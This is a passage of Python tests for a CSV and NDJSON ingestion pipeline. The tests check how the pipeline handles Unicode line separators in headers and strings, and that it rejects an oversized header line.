    """str.splitlines() cut the header at U+2028 while the csv module does not: every row
    then had "too many fields". The header is now split where the csv module splits."""
    with fresh(base_db) as (store, indir):
        path = _csv(indir, "clients.csv", "client_id,note\u2028x,sex\nC7,a,F\nC8,b,M\n")
        rep = ingest_and_check([path], store, registry)
        assert (rep.files[0].accepted, rep.files[0].extra_columns) == (2, ("note\u2028x",))


def test_ndjson_with_raw_line_separators_in_strings(base_db: Path,
                                                    registry: Registry) -> None:
    """JSON may hold U+2028 / U+0085 unescaped inside a string; NDJSON splits on \\n only."""
    one = {**OBS, "subject": {"reference": "Patient/C1", "display": "Ann\u2028Smith\x85"}}
    two = {**OBS, "effectiveDateTime": "2025-03-01T10:00:00Z"}
    with fresh(base_db) as (store, indir):
        path = indir / "r.ndjson"
        path.write_text(json.dumps(one, ensure_ascii=False) + "\n" + json.dumps(two) + "\n",
                        encoding="utf-8")
        rep = ingest_and_check([path], store, registry)
        assert (rep.files[0].records, rep.files[0].accepted) == (2, 2)


def test_header_longer_than_the_sniffed_head(base_db: Path, registry: Registry) -> None:
    with fresh(base_db) as (store, indir):
        path = _csv(indir, "wide.csv", "therapist_id,name," + ",".join(
            f"column_{i}" for i in range(10_000)) + "\nT7,Ann\n")
        rep = ingest_and_check([path], store, registry)
        f = rep.files[0]
        assert f.status == "rejected" and "header line is longer than" in (f.error or "")
